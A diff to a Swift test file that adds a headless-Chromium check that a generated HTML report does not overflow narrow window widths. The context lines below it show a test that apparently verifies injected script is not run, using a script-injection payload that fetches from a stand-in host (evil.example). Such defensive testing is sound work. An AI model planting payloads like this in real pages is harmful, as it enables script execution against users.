@@ -127,6 +127,35 @@ import Testing
     #expect(best < 2000, "milliseconds")
   }
 
+  /// On a narrow window nothing is cut off: what is wider than the window scrolls in its own box.
+  @Test(
+    .enabled("Chromium is not installed; install `chromium` to run this") { isNeeded },
+    arguments: [320, 390, 768])
+  func nothingIsCutOffOnANarrowWindow(width: Int) throws {
+    var report = HTMLReport(ReportContext(language: .german))
+    let html = report.whole(try Samples.interviews())
+    // The window itself cannot be as narrow as that, a frame can.
+    let frame = """
+      <!doctype html><html><body><script>
+      function measure(frame) {
+        var page = frame.contentDocument, edge = page.documentElement.clientWidth, found = [];
+        page.querySelectorAll("details").forEach(function (fold) { fold.open = true; });
+        page.querySelectorAll("main *").forEach(function (element) {
+          if (element.closest("legend") || element.parentElement.closest(".pic,.wide")) { return; }
+          if (element.getBoundingClientRect().right > edge + 1) {
+            found.push(element.tagName + "." + element.getAttribute("class"));
+          }
+        });
+        document.title = "cut off: " + found.length + " " + found.slice(0, 3).join(" ");
+      }
+      </script><iframe style="width:\(width)px;height:2000px;border:0" onload="measure(this)" \
+      srcdoc="\(Markup.escaped(html))"></iframe></body></html>
+      """
+    let dom = try open(frame).dom
+    let found = try #require(dom.firstMatch(of: /<title>cut off: ([^<]*)</), "nothing was measured")
+    #expect(found.1.hasPrefix("0 "), "\(found.1)")
+  }
+
   @Test(.enabled("Chromium is not installed; install `chromium` to run this") { isNeeded })
   func candidatePageIsOnlyShown() throws {
     let text = "<script>document.title='ran';fetch('https://evil.example/ran')</script>"
